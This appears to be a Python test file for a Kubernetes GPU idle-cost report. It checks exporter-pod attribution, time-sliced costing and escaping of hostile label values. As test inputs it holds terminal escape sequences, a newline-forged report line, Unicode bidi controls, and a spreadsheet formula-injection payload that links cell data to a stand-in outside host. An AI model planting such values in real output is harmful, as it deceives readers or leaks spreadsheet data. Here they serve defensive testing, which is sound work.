"""Idle readings belong to the bound pods holding the device, never to dcgm-exporter's own pod."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from tests.builders import H100, make_catalog, make_node, make_pod, policy_doc, template_doc, whole_node
from webhook.inventory.nodes import build_inventory
from webhook.inventory.usage import pod_usage
from webhook.report.build import build_report
from webhook.report.model import Report
from webhook.report.render import render_csv, render_text
from webhook.report.utilisation import GPU_UTIL, GpuUtilisation, reading_from_series

PRICE = 4.0
EXPORTER = {"namespace": "gpu-operator", "pod": "nvidia-dcgm-exporter-7x2kq", "instance": "10.0.0.5:9400"}


def _pod(name: str, node: str, gpus: int) -> dict[str, Any]:
    pod = make_pod(name).namespace("ml").container("c", image="zz:1", limits={"nvidia.com/gpu": gpus}).build()
    pod["spec"]["nodeName"] = node
    pod["status"] = {"phase": "Running"}
    return pod


def _reading(node: str, gpu: str, percent: float, **labels: str) -> GpuUtilisation:
    metric = {"Hostname": node, "gpu": gpu, "UUID": f"GPU-{node}-{gpu}", "modelName": "H100"} | labels
    reading = reading_from_series({"metric": metric, "value": [0, str(percent)]}, GPU_UTIL, 1.0)
    assert reading is not None
    return reading


def _report(readings: list[GpuUtilisation]) -> Report:
    nodes = [whole_node("w0", H100, 2), whole_node("w1", H100, 2)]
    pods = [_pod("trainer", "w0", 1)]
    template = template_doc("t", {"gpu": "optional"}, match={"images": ["yy*"]})
    catalog = make_catalog(template, policy_doc("all", prices={H100: PRICE}))
    usages = [u for u in map(pod_usage, pods) if u is not None]
    return build_report(build_inventory(nodes, pods), catalog, usages, readings, window="1h")


def test_the_exporters_own_pod_on_an_unallocated_gpu_is_not_an_idle_workload() -> None:
    report = _report(
        [
            _reading("w0", "0", 1.0, namespace="ml", pod="trainer"),
            _reading("w0", "1", 0.0, **EXPORTER),  # ServiceMonitor target labels, nobody holds GPU 1
            _reading("w1", "0", 0.0, **EXPORTER),
        ]
    )
    assert report.idle is not None
    assert [(i.node, i.gpu, i.namespace, i.pod) for i in report.idle] == [("w0", "0", "ml", "trainer")]
    assert report.costs.idle_per_hour == pytest.approx(PRICE)
    # the three unallocated GPUs are costed once, as unallocated
    assert report.costs.unallocated_per_hour == pytest.approx(3 * PRICE)


def test_a_reading_names_a_pod_bound_to_its_own_node() -> None:
    report = _report([_reading("w1", "0", 0.0, namespace="ml", pod="trainer")])
    assert report.idle == ()


def test_exported_labels_name_the_workload() -> None:
    reading = _reading("w0", "0", 2.0, **EXPORTER, exported_namespace="ml", exported_pod="trainer")
    report = _report([reading])
    assert [(i.namespace, i.pod) for i in report.idle or ()] == [("ml", "trainer")]


def test_the_text_shows_the_control_characters_of_an_exporters_labels_escaped() -> None:
    """A node's dcgm-exporter labels its series as it likes: in the text, an ESC would clear or
    recolour the reader's terminal, a newline forge a line of the report (found by QA)."""
    forged = "1g.10gb\n  ml/other on w1: 1 GPU -> 1g.10gb (t), frees 1.00 GPU, $9.99/h"
    reading = _reading("w0", "0\x1b[2J\x1b[31m", 1.0, namespace="ml", pod="trainer", GPU_I_PROFILE=forged)
    report = _report([reading])
    text = render_text(report)
    idle = text.split("ALLOCATED BUT IDLE")[1].splitlines()[1:]
    assert len(idle) == 1 and idle[0].startswith("  w0 gpu 0\\x1b[2J\\x1b[31m 1g.10gb\\n  ml/other")
    assert "\x1b" not in text
    assert report.idle is not None and report.idle[0].gpu == "0\x1b[2J\x1b[31m"  # JSON escapes it itself


def test_the_csv_shows_an_exporters_formula_as_text() -> None:
    """CSV is for spreadsheets, which run a cell starting with =, +, - or @ as a formula; a node's
    dcgm-exporter names the model and profile of its idle rows as it likes (found by QA)."""
    model = '=HYPERLINK("http://example.invalid/?"&A1,"H100")'
    reading = _reading(
        "w0", "0", 1.0, namespace="ml", pod="trainer", modelName=model, GPU_I_PROFILE="@SUM(1)"
    )
    rows = list(csv.DictReader(io.StringIO(render_csv(_report([reading])))))
    idle = [row for row in rows if row["section"] == "idle"]
    assert [(row["product"], row["profile"], row["node"]) for row in idle] == [
        ("'" + model, "'@SUM(1)", "w0")
    ]
    assert all(cell[:1] not in "=+-@" for row in rows for cell in row.values() if cell)


def test_a_time_sliced_gpu_read_under_each_of_its_holders_is_costed_once() -> None:
    node = make_node(
        "ts0",
        {
            "nvidia.com/gpu.product": H100,
            "nvidia.com/gpu.replicas": "4",
            "nvidia.com/gpu.sharing-strategy": "time-slicing",
        },
        {"nvidia.com/gpu": 4},
    )
    pods = [_pod("a", "ts0", 1), _pod("b", "ts0", 1)]
    catalog = make_catalog(
        template_doc("t", {"gpu": "optional"}, match={"images": ["yy*"]}),
        policy_doc("all", prices={H100: PRICE}),
    )
    usages = [u for u in map(pod_usage, pods) if u is not None]
    readings = [_reading("ts0", "0", 1.0, namespace="ml", pod=name) for name in ("a", "b")]
    report = build_report(build_inventory([node], pods), catalog, usages, readings, window="1h")
    assert [(i.node, i.gpu) for i in report.idle or ()] == [("ts0", "0")]
    assert report.costs.idle_per_hour == pytest.approx(PRICE)


BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""Unicode's Bidi_Control characters: each changes the order in which the rest of a line is shown."""


@pytest.mark.parametrize("control", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_the_text_shows_every_direction_changing_character_escaped(control: str) -> None:
    """As README says of the text and as the log lines escape them: the Arabic letter mark (U+061C)
    reached the reader as it came, reordering the idle line around it (found by review)."""
    reading = _reading("w0", "0", 1.0, namespace="ml", pod="trainer", GPU_I_PROFILE=f"1g.10gb{control}x")
    text = render_text(_report([reading]))
    assert control not in text and f"\\u{ord(control):04x}" in text
